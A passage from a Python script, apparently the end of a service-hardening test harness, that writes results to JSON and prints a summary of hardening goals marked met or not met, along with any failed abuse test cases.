                    root=root, grpc_=False)
    server.start()
    try:
        return section_f(server, model, key, args)
    finally:
        server.stop()


def _write(path: Optional[str], results: Dict[str, Any]) -> None:
    if path:
        Path(path).write_text(json.dumps(results, indent=1, default=str))
        print(f"wrote {path}")


def _summary(results: Dict[str, Any]) -> None:
    rows = []
    for key, goal_key, fig_key, met_key in [("a", "a", "figure", "met"), ("b", "b", "figure", "met"),
                                            ("c", "c", "figure", "met"), ("d", "d", "figure", "met"),
                                            ("e", "e1", "figure_share", "met_share"),
                                            ("e", "e2", "figure_ratio", "met_ratio"),
                                            ("f", "f1", "", ""), ("f", "f2", "", ""), ("f", "f3", "", ""),
                                            ("g", "g1", "", ""), ("g", "g2", "", ""), ("g", "g3", "", ""),
                                            ("h", "h1", "", ""), ("h", "h2", "", "")]:
        r = results.get(key)
        if key in ("f", "g", "h") and r is not None and "error" not in r:
            r = r.get(goal_key)
            fig_key, met_key = "figure", "met"
        if r is None:
            rows.append((GOALS[goal_key], "not run", "-"))
            continue
        fig = r.get(fig_key) or r.get("figure") or r.get("error", "?")
        rows.append((GOALS[goal_key], fig, "MET" if r.get(met_key) else "NOT MET"))
    print("\n" + "=" * 110)
    print(f"service hardening goals (server {fz.git_label(results.get('git', {}))}; "
          f"{results.get('total_seconds', '?')} s)")
    print("=" * 110)
    for goal, fig, verdict in rows:
        print(f"- {goal}\n    today: {fig}\n    -> {verdict}")
    bad = [r for r in results.get("abuse_rows", []) if r["verdict"] != "ok"]
    if bad:
        print("\nabuse cases that failed:")
        for r in bad:
            print(f"  {r['front']:<4} {r['case'][:62]:<62} {str(r.get('answer'))[:30]:<30} {r['verdict']}")


if __name__ == "__main__":
    sys.exit(main())
